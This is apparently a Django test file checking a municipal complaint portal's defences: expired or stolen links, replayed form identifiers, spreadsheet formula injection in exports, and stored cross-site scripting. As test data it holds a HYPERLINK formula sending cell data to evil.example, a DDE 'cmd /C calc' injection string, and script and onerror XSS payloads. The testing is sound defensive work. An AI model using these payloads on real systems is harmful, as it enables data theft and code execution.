"""Attacks at the edges, each told to its end: a stolen link, a replayed identifier, formulas in tables, scripts in names."""

import io
import json
import re
from typing import Any
from uuid import uuid4
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from shiqiao.base.actor import Ref, system
from shiqiao.base.errors import Forbidden, NotFound
from shiqiao.base.snapshots import touch
from shiqiao.base.time import held, now
from shiqiao.kernel.files.actions import store
from shiqiao.kernel.journal.models import JournalLine
from shiqiao.kernel.matters.models import Matter, Reporter, SecretLink
from shiqiao.kernel.matters.secret_links import by_secret, renew_link, revoke_link
from shiqiao.kernel.people.logins import Slip, workbook
from shiqiao.kernel.people.models import Account, Post, Unit
from shiqiao.kernel.people.tokens import issue_token
from shiqiao.kernel.territory.models import Grid
from shiqiao.scenes.hotline.transport import table
from shiqiao.scenes.hotline.transport.http import Outgoing
from shiqiao.surfaces.desk import exporting
from shiqiao.surfaces.desk.sockets import exports
from shiqiao.testing.street import FIRST_GRID, MORNING, Street, later
from tests.kernel.files.samples import EVERY

from .telling import Telling

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
SCRIPT = "<script>alert('偷')</script><img src=x onerror=alert(1)>"


def browser(login: str = "") -> Client:
    """A browser without scripts, signed in when a login is given."""
    client = Client(headers={"accept-language": "zh-hans"})
    if login:
        client.force_login(Account.objects.get(username=login))
    return client


def reported(street: Street, client: Client, **more: Any) -> tuple[str, str, str]:
    """Report at the portal; returns link, number, secret."""
    given = {
        "client_id": uuid4().hex, "text": "垃圾成堆没人清", "address": "春元里小区3号楼", "item": "06010", "name": "虚构一",
        "phone": "13800138000", **more,
    }  # fmt: skip
    answer = client.post("/portal/report/", given)
    assert answer.status_code == 303, re.findall(r"<strong>.*?</strong>|#id_.*?</li>", answer.content.decode())
    link = answer["Location"].split("?")[0]
    return link, link.split("/")[-3], link.split("/")[-2]


# ── a stolen link ──────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture
def closed(street: Street, tell: Telling) -> tuple[str, str, str]:
    """A report of a resident that was worked on and closed on the day."""
    link, number, secret = reported(street, browser())
    row = Matter.objects.get(number=number)
    receipt = type("R", (), {"id": row.pk, "number": number})()
    with tell.at("2018-06-27 11:00"):
        tell.dispatch(receipt, "c1.g1")
        tell.finish(receipt, by="c1g1")
        tell.close(receipt)
    return link, number, secret


def test_a_stolen_link_opens_nothing_after_its_time_and_looks_like_one_that_never_was(
    street: Street, closed: tuple[str, str, str]
) -> None:
    link, number, secret = closed
    with held(later(MORNING, days=364)):
        assert browser().get(link).status_code == 200
    with held(later(MORNING, days=367)):
        expired = browser().get(link)
        unknown = browser().get(link.replace(secret, "x" * 22))
        no_matter = browser().get(link.replace(number, "180627999999"))
        assert [one.status_code for one in (expired, unknown, no_matter)] == [404] * 3
        plain = [re.sub(r'value="[^"]+"|next=[^"]+', "", one.content.decode()) for one in (expired, unknown, no_matter)]
        assert plain[0].replace(secret, "") == plain[1].replace("x" * 22, "")
        assert "已过有效期" in plain[0]
        assert "补发" in plain[0], "it says how to get a new one"
        assert number not in plain[0]
        for act in ("rate/", "reopen/"):
            assert browser().post(link + act, {"reason": "再来", "solved": "no", "satisfied": "no"}).status_code == 404
        found = browser().post("/portal/follow/", {"number": number, "secret": secret})
        assert found.status_code == 404
    assert Matter.objects.get(number=number).reopened == 0


def test_a_clerk_renews_a_link_and_the_thief_is_left_outside(street: Street, closed: tuple[str, str, str]) -> None:
    link, number, _ = closed
    reporter = Reporter.objects.get(matter=Matter.objects.get(number=number).pk)
    clerk = browser("dispatch1")
    with held(later(MORNING, days=400)):
        page = clerk.get(f"/matters/{number}/links/").content.decode()
        assert "138****" in page
        assert "13800138000" not in page
        given = clerk.post(f"/matters/{number}/links/{reporter.pk}/renew/").content.decode()
        fresh = re.search(rf"/portal/m/{number}/([\w-]+)/", given)
        assert fresh
        assert browser().get(f"/portal/m/{number}/{fresh[1]}/").status_code == 200, "a renewed link has its own year"
        assert browser().get(link).status_code == 404
        clerk.post(f"/matters/{number}/links/{reporter.pk}/revoke/")
        assert browser().get(f"/portal/m/{number}/{fresh[1]}/").status_code == 404
    told = JournalLine.objects.filter(code__startswith="matters.link_").order_by("id")
    assert [line.code for line in told] == ["matters.link_renewed", "matters.link_revoked"]
    assert fresh[1] not in "".join(str(line.data) for line in told)
    assert fresh[1].encode() not in bytes(SecretLink.objects.get().secret or b"")


@pytest.mark.parametrize("login", ["city1", "c2g1", "admin1"])
def test_nobody_gives_out_links_who_does_not_talk_with_the_reporter(
    street: Street, closed: tuple[str, str, str], login: str
) -> None:
    row = Matter.objects.get(number=closed[1])
    reporter = Reporter.objects.get(matter=row.pk)
    assert browser(login).get(f"/matters/{row.number}/links/").status_code in (403, 404)
    for act in (renew_link, revoke_link):
        with pytest.raises(Forbidden):
            act(matter=row, reporter=reporter.pk, by=street.actor(login), at=now())
    assert by_secret(row.number, closed[2], at=now()) == row
    with pytest.raises(NotFound):
        renew_link(matter=row, reporter=999_999, by=street.actor("dispatch1"), at=now())


# ── a replayed identifier ──────────────────────────────────────────────────────────────────────────────────────────


def test_a_replayed_form_changes_nothing_and_tells_another_browser_nothing(street: Street) -> None:
    mine, thief = browser(), browser()
    client_id = uuid4().hex
    link, number, _ = reported(street, mine, client_id=client_id)
    again = reported(street, mine, client_id=client_id)[0]
    assert again == link
    answer = thief.post(
        "/portal/report/", {"client_id": client_id, "text": "偷看", "item": "06010", "address": "春元里"}
    )
    assert answer.status_code == 422
    assert "/portal/m/" not in answer.content.decode()
    guessed = thief.post("/portal/report/", {"client_id": client_id[:-1] + "0", "text": "偷看", "item": "06010"})
    assert number not in guessed.get("Location", "")


def test_a_replayed_call_of_the_api_is_one_report_and_another_tokens_identifier_is_its_own(street: Street) -> None:
    post = Post.objects.get(code="centre.dispatch")
    one, other = (issue_token(name=name, post=post, scopes=["report"], by=system("test"), at=now()) for name in "ab")
    body = json.dumps(
        {"client_id": "A-1", "item": "06010", "text": "垃圾成堆", "grid": str(FIRST_GRID)}, ensure_ascii=False
    )

    def call(secret: str, sent: str = body) -> Any:
        return Client().post("/api/v1/reports", sent, content_type="application/json",
                             headers={"authorization": f"Bearer {secret}"})  # fmt: skip

    first = call(one)
    assert first.status_code == 201
    assert call(one).status_code == 200
    assert call(one).json()["number"] == first.json()["number"]
    assert call(one, body.replace("成堆", "又成堆")).status_code == 409
    theirs = call(other)
    assert theirs.status_code == 201, "another sender's identifiers are its own: nothing is learnt by guessing them"
    assert theirs.json()["number"] != first.json()["number"]
    assert Matter.objects.count() == 2


# ── formulas in tables ─────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", "\u200b="])
def test_a_formula_in_a_report_leaves_the_house_as_text(street: Street, start: str) -> None:
    receipt = street.report(text=f"{start}cmd|' /C calc'!A0", address="春元里")
    answer = browser("dispatch1").get("/export/matters.xlsx")
    book = load_workbook(io.BytesIO(b"".join(answer.streaming_content)))  # type: ignore[attr-defined]
    said = [cell for sheet in book for row in sheet.iter_rows() for cell in row if "calc" in str(cell.value)]
    assert said
    assert all(cell.data_type == "s" and str(cell.value).startswith("'") for cell in said)
    assert receipt.number in str([cell.value for row in book.worksheets[0].iter_rows() for cell in row])


@pytest.mark.parametrize("entry", list(exports), ids=lambda entry: entry.code)
def test_no_export_lets_a_formula_out(street: Street, entry: Any) -> None:
    rows = [[FORMULA] * len(entry.columns), ["\t@SUM(1)"] * len(entry.columns)]
    cheated = type(entry)(**{**{name: getattr(entry, name) for name in entry.__dataclass_fields__},
                             "rows": lambda *_: rows, "chosen": None, "facts": lambda *_: [(FORMULA, FORMULA)]})  # fmt: skip
    written = exporting.made(cheated, {"text": FORMULA}, by=street.actor("leader1"), at=now())
    book = load_workbook(written.file)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert sum("HYPERLINK" in str(cell.value) for cell in cells) >= len(entry.columns)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if isinstance(cell.value, str) and re.match(r"\s*[=+\-@]", cell.value)]


def test_slips_and_the_table_for_12345_let_none_out_either(street: Street) -> None:
    slips = workbook([Slip(FORMULA, FORMULA, FORMULA, FORMULA)])
    letter = Outgoing(FORMULA, FORMULA, 1, FORMULA, {"result": FORMULA, "note": "＝1", "evidence": FORMULA})
    for content in (slips, table.workbook([letter], ZoneInfo("Asia/Shanghai"))):
        cells = [cell for sheet in load_workbook(io.BytesIO(content)) for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert any(str(cell.value).startswith("'=") for cell in cells)


# ── a script that is stored ────────────────────────────────────────────────────────────────────────────────────────


def test_a_stored_script_is_shown_as_words_everywhere(street: Street) -> None:
    photo = SimpleUploadedFile(f"{SCRIPT}.mp3", EVERY["mp3"]())
    told = {"text": f"三号楼垃圾成堆{SCRIPT}", "name": SCRIPT[:20], "address": "春元里小区 <b>3号楼", "photo": photo}
    link, number, _ = reported(street, browser(), **told)
    row = Matter.objects.get(number=number)
    store(EVERY["docx"](), name=f"{SCRIPT}.docx", subject=Ref("upload", 0), purpose="document", street=street.number,
          by=street.actor("dispatch1"), at=now())  # fmt: skip
    Grid.objects.filter(code=str(FIRST_GRID)).update(name=SCRIPT[:40])
    Unit.objects.filter(community=FIRST_GRID // 1000).update(title_zh=SCRIPT[:60])
    Post.objects.filter(code="centre.dispatch").update(title_zh=SCRIPT[:60])
    for held_back in ("people", "territory"):
        touch(held_back)
    seen = 0
    pages = ("/", "/matters/", f"/matters/{number}/", "/map/", "/coverage/", "/people/me/", f"/matters/{number}/links/",
             f"/matters/{number}/like/", f"/matters/{number}/do/dispatch/", "/report/preview?grid=1")  # fmt: skip
    for client, paths in (
        (browser("dispatch1"), pages),
        (browser(), (link, f"{link}?new=1", "/portal/", "/portal/list/")),
    ):
        for path in paths:
            said = client.get(path).content.decode()
            assert "<script>alert" not in said, path
            assert "<img src=x" not in said, path
            seen += "&lt;script&gt;alert" in said
    assert seen > 3
    for path in ("/map/data/grids.json", "/map/data/matters.json", f"/map/data/matters/{number}.json"):
        answer = browser("dispatch1").get(path)
        assert answer["Content-Type"].startswith("application/json")
        assert answer["X-Content-Type-Options"] == "nosniff"
    assert row.title
